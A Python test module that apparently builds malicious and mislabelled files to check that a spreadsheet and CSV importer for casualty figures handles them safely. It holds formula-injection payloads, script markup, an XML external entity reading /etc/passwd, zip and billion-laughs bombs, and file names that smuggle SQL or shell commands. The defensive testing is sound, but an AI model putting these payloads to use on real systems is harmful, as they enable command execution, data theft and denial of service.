"""Files of another kind under a wrong name, and files made to do harm."""

import base64
import gzip
import io
import json
import struct
import zipfile
from collections.abc import Callable

from tests.badfiles.build import case
from tests.badfiles.case import ANY, Case, Rejected, accepted, either, figure, refused
from tests.badfiles.xlsx import HEAD, MAIN, Sheet, workbook, zipped

PLAIN = "Country,Year,Killed\nMali,2019,12\nNiger,2019,34\n"
BOTH = (figure("killed", 12, "MLI", "2019"), figure("killed", 34, "NER", "2019"))
TABLE = Sheet("Data", [["Country", "Year", "Killed"], ["Mali", 2019, 12]])


def cases() -> list[Case]:
    """Return every case of this kind."""
    return [*_other_kinds(), *_characters(), *_large(), *_bombs(), *_names()]


def compound(*streams: str) -> bytes:
    """Return the shell of an old Office file that names these streams in its directory."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(10)
    header += struct.pack("<IIIIIIIII", 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0, 0)
    header += b"\xff" * (512 - len(header))
    table = struct.pack("<II", 0xFFFFFFFD, 0xFFFFFFFE) + b"\xff" * 504
    entries = b""
    for kind, name in [(5, "Root Entry"), *((2, stream) for stream in streams)][:4]:
        text = name.encode("utf-16-le") + b"\0\0"
        entry = text.ljust(64, b"\0") + struct.pack("<HBB", len(text), kind, 1) + b"\xff" * 12
        entries += entry.ljust(128, b"\0")
    return header + table + entries.ljust(512, b"\0")


def _other_kinds() -> list[Case]:
    plain = PLAIN.encode()
    document = zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"})
    binary = zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": b"\x00\x01"})
    open_document = zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<office/>"})
    page = "<html><body><table><tr><th>Country</th></tr><tr><td>Mali</td></tr></table></body></html>"
    picture = base64.b64decode(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    )
    kinds: dict[str, tuple[Callable[[], bytes], tuple[str, ...]]] = {
        "old_excel.xls": (lambda: compound("Workbook"), ("old", ".xls", "excel")),
        "old_excel_named.csv": (lambda: compound("Workbook"), ("old", ".xls", "excel")),
        "old_excel_named.xlsx": (lambda: compound("Workbook"), ("old", ".xls", "excel")),
        "password.xlsx": (
            lambda: compound("EncryptionInfo", "EncryptedPackage"),
            ("password", "protected", "encrypted"),
        ),
        "open_document.ods": (lambda: open_document, ("libreoffice", "opendocument", ".ods", "xlsx")),
        "open_document_named.xlsx": (lambda: open_document, ("libreoffice", "opendocument", ".ods", "xlsx")),
        "binary_workbook.xlsb": (lambda: binary, ("xlsb", "binary", "xlsx", "csv")),
        "binary_workbook_named.xlsx": (lambda: binary, ("xlsb", "binary", "xlsx", "csv", "damaged")),
        "word.xlsx": (lambda: document, ("word", "workbook", "excel")),
        "json.csv": (lambda: json.dumps([{"Country": "Mali", "Killed": 12}], indent=1).encode(), ("json",)),
        "json_object.csv": (lambda: json.dumps({"rows": [{"Country": "Mali"}]}).encode(), ("json",)),
        "page.csv": (page.encode, ("web page", "html")),
        "page_named.xls": (page.encode, ("web page", "html", "old", ".xls")),
        "report.csv": (lambda: b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF", ("pdf",)),
        "packed.csv": (lambda: zipped({"table.csv": plain}), ("packed", "zip", "unpack")),
        "squeezed.csv": (lambda: gzip.compress(plain, mtime=0), ("compressed", "packed", "unpack")),
        "parquet.csv": (lambda: b"PAR1\x15\x04\x15\x10\x15\x14" + bytes(40) + b"PAR1", ("parquet",)),
        "picture.csv": (lambda: picture, ("text", "picture", "image", "table", "encoding")),
        "database.csv": (lambda: b"SQLite format 3\0" + bytes(100), ("text", "database", "encoding", "table")),
        "program.csv": (lambda: b"\x7fELF\x02\x01\x01" + bytes(range(256)), ("text", "encoding", "table")),
        "noise.csv": (lambda: bytes((n * 7919 + n // 3) % 256 for n in range(4000)), ("text", "encoding", "table")),
    }
    cases = [case("another kind of file", name, make, refused(*words)) for name, (make, words) in kinds.items()]
    renamed = workbook(TABLE)
    return [
        *cases,
        case(
            "another kind of file",
            "workbook_named.csv",
            lambda: renamed,
            accepted(BOTH[0]),
            refused("workbook", "excel", "xlsx"),
        ),
        case("another kind of file", "csv_named.xlsx", PLAIN, accepted(*BOTH), refused("workbook", "excel", "csv")),
        case(
            "another kind of file", "csv_named.xls", PLAIN, accepted(*BOTH), refused("workbook", "excel", "csv", ".xls")
        ),
    ]


def _characters() -> list[Case]:
    header = "indicator,location_code,place_text,reference_period_start,value\n"
    second = "injured,BFA,Djibo,2020,34\n"
    djibo = figure("injured", 34, "BFA", "2020", place_text="Djibo")

    def hidden(name: str, place: str, *more: str) -> Case:
        row = f"killed,MLI,{place},2019,12\n"
        clean = figure("killed", 12, "MLI", "2019", place_text=("Mopti", "Mop ti", "itpoM"))
        return case("hidden characters", name, header + row + second, accepted(either(Rejected(2), clean), djibo))

    return [
        hidden("bidi_override.csv", "Mop\u202eti"),
        hidden("zero_width.csv", "Mop\u200bti"),
        hidden("null.csv", "Mop\0ti"),
        hidden("bell.csv", "Mop\x07ti"),
        case(
            "hidden characters",
            "in_the_numbers.csv",
            header + "killed,MLI,,2019,1\u200b2\nkilled,MLI,,2020,\u202e12\nkilled,MLI,,2021,1\0" + "2\n" + second,
            accepted(
                either(Rejected(2), figure("killed", 12, "MLI", "2019")),
                either(Rejected(3), figure("killed", 12, "MLI", "2020")),
                either(Rejected(4), figure("killed", 12, "MLI", "2021")),
                djibo,
            ),
            refused("text", "characters", "encoding"),
        ),
        case(
            "hidden characters",
            "in_the_header.csv",
            "\u200bCountry,\u202aYear\u202c,Killed\u00a0\nMali,2019,12\n",
            accepted(figure("killed", 12, "MLI", "2019")),
            refused("characters", "header", "column", "looked", "figure"),
        ),
        case(
            "formula injection",
            "in_text.csv",
            header + 'killed,MLI,"=HYPERLINK(""http://x.invalid?""&A1,""Mopti"")",2019,12\nkilled,MLI,@SUM(1),2020,13\n'
            "killed,MLI,-2+3+cmd|' /C calc'!A0,2021,14\n" + second,
            accepted(
                either(Rejected(2), figure("killed", 12, "MLI", "2019", place_text=ANY)),
                either(Rejected(3), figure("killed", 13, "MLI", "2020", place_text=ANY)),
                either(Rejected(4), figure("killed", 14, "MLI", "2021", place_text=ANY)),
                djibo,
            ),
        ),
        case(
            "formula injection",
            "in_the_header.csv",
            "Country,Year,Killed,\"=cmd|' /C calc'!A0\"\nMali,2019,12,x\n",
            accepted(figure("killed", 12, "MLI", "2019")),
        ),
        case(
            "markup",
            "in_text.csv",
            header + "killed,MLI,<script>alert(1)</script>,2019,12\nkilled,MLI,[a](javascript:alert(1)),2020,13\n",
            accepted(
                either(Rejected(2), figure("killed", 12, "MLI", "2019", place_text="<script>alert(1)</script>")),
                either(Rejected(3), figure("killed", 13, "MLI", "2020", place_text=ANY)),
            ),
        ),
    ]


def _large() -> list[Case]:
    def wide() -> bytes:
        names = ",".join(f"c{n}" for n in range(20_000))
        return f"Country,Year,Killed,{names}\nMali,2019,12{',1' * 20_000}\n".encode()

    def rows(count: int) -> bytes:
        return ("Country,Year,Killed,Remark\n" + f"Mali,2019,12,{'x' * 180}\n" * count).encode()

    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    many_rows = "".join(f'<row r="{n}"><c r="A{n}"/></row>' for n in range(3, 200_000))
    strings = f'{HEAD}<sst xmlns="{MAIN}">{"<si><t>x</t></si>" * 10}</sst>'.encode()
    return [
        case(
            "large cells",
            "one_megabyte.csv",
            lambda: f"Country,Year,Killed,Remark\nMali,2019,12,{'x' * 1_000_000}\nNiger,2019,34,ok\n".encode(),
            accepted(*BOTH),
            accepted(Rejected(2), BOTH[1]),
            refused("large", "long", "cell"),
            apart=True,
            seconds=20,
        ),
        case(
            "large cells",
            "a_million_digits.csv",
            lambda: f"Country,Year,Killed\nMali,2019,{'9' * 1_000_000}\nNiger,2019,34\n".encode(),
            accepted(Rejected(2), BOTH[1]),
            refused("large", "long", "cell"),
            apart=True,
            seconds=20,
        ),
        case(
            "too many columns",
            "twenty_thousand.csv",
            wide,
            refused("columns"),
            accepted(BOTH[0]),
            apart=True,
            seconds=20,
            megabytes=500,
        ),
        case(
            "too many bytes",
            "over_the_limit.csv",
            lambda: rows(1_400_000),
            refused("large"),
            apart=True,
            seconds=60,
            megabytes=1500,
        ),
        case(
            "far cells",
            "last_of_all.xlsx",
            lambda: workbook(Sheet(TABLE.name, TABLE.rows, extra=far)),
            accepted(BOTH[0]),
            accepted(BOTH[0], Rejected(1048576)),
            refused("large", "rows", "columns", "cells"),
            apart=True,
            seconds=10,
            megabytes=400,
        ),
        case(
            "far cells",
            "thousands_of_blank_rows.xlsx",
            lambda: workbook(Sheet(TABLE.name, TABLE.rows, extra=many_rows)),
            accepted(BOTH[0]),
            refused("large", "rows", "cells"),
            apart=True,
            seconds=30,
            megabytes=400,
        ),
        case(
            "broken workbooks",
            "unused_shared_text.xlsx",
            lambda: workbook(TABLE, files={"xl/sharedStrings.xml": strings}),
            accepted(BOTH[0]),
        ),
    ]


def _bombs() -> list[Case]:
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    laughs = (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">{entities}]><worksheet xmlns="{MAIN}"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>&a9;</t></is></c></row></sheetData></worksheet>'
    ).encode()
    outside = (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet xmlns="{MAIN}">'
        "<sheetData>"
        '<row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row></sheetData></worksheet>'
    ).encode()
    limits = {"apart": True, "seconds": 5, "megabytes": 300}
    return [
        case("bombs", "blanks_in_a_sheet.xlsx", _zeros("xl/worksheets/sheet1.xml", 1_500), BOMB, **limits),
        case("bombs", "shared_text.xlsx", _zeros("xl/sharedStrings.xml", 1_500), BOMB, **limits),
        case("bombs", "styles.xlsx", _zeros("xl/styles.xml", 600), BOMB, **limits),
        case("bombs", "lying_about_its_size.xlsx", _lie, BOMB, refused("damaged"), **limits),
        case(
            "bombs",
            "a_part_nobody_reads.xlsx",
            _zeros("xl/media/image1.png", 1_500, valid=True),
            BOMB,
            accepted(BOTH[0]),
            **limits,
        ),
        case(
            "bombs",
            "billion_laughs.xlsx",
            lambda: workbook(TABLE, files={"xl/worksheets/sheet1.xml": laughs}),
            BOMB,
            refused("damaged", "opened", "read"),
            **limits,
        ),
        case(
            "bombs",
            "billion_laughs_in_the_styles.xlsx",
            lambda: workbook(TABLE, files={"xl/styles.xml": laughs}),
            BOMB,
            refused("damaged", "opened", "read"),
            **limits,
        ),
        case(
            "bombs",
            "a_file_from_outside.xlsx",
            lambda: workbook(TABLE, files={"xl/worksheets/sheet1.xml": outside}),
            BOMB,
            refused("damaged", "opened", "read", "entit"),
            secret=("root:",),
            **limits,
        ),
        case("bombs", "many_small_parts.xlsx", _many, BOMB, accepted(BOTH[0]), **limits),
        case("bombs", "archive_in_archive.xlsx", _nested, BOMB, refused("workbook", "excel", "packed"), **limits),
    ]


BOMB = refused("large", "unpack", "bomb", "bigger", "memory", "safe", "harm", "declar")


def _zeros(part: str, megabytes: int, *, valid: bool = False) -> Callable[[], bytes]:
    """Return what makes a small workbook with one part that unpacks to very much."""

    def make() -> bytes:
        buffer = io.BytesIO(workbook(TABLE) if valid else b"")
        filler = b"\0" * 1_000_000 if valid else b" " * 1_000_000
        with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
            if not valid:
                with zipfile.ZipFile(io.BytesIO(workbook(TABLE))) as source:
                    for name in source.namelist():
                        if name != part:
                            archive.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), source.read(name))
            bomb = zipfile.ZipInfo(part, (2020, 1, 1, 0, 0, 0))
            bomb.compress_type = zipfile.ZIP_DEFLATED
            with archive.open(bomb, "w") as stream:
                stream.write(f'{HEAD}<worksheet xmlns="{MAIN}"><sheetData>'.encode())
                for _ in range(megabytes):
                    stream.write(filler)
        return buffer.getvalue()

    return make


def _lie() -> bytes:
    """Return a workbook whose directory says a part is small that is not."""
    content = bytearray(_zeros("xl/worksheets/sheet1.xml", 1_000)())
    name = b"xl/worksheets/sheet1.xml"
    entry = content.rfind(b"PK\x01\x02", 0, content.rfind(name))
    content[entry + 24 : entry + 28] = struct.pack("<I", 1_000)
    return bytes(content)


def _many() -> bytes:
    return workbook(TABLE, files={f"xl/extra/part{n}.xml": b"<x/>" for n in range(20_000)})


def _nested() -> bytes:
    inner = _zeros("a.xml", 200)()
    return zipped({f"{n}.zip": inner for n in range(20)})


def _names() -> list[Case]:
    return [
        case("file names", name, PLAIN, accepted(*BOTH))
        for name in (
            "Été 2019 – Mali (final) v2.CSV",
            "'; DROP TABLE figure; --.csv",
            "$(touch pwned).csv",
            "-rf.csv",
            "a" * 200 + ".csv",
            "%2e%2e%2fetc.csv",
            "\u202evsc.table.csv",
            "two.dots.xlsx.csv",
        )
    ]
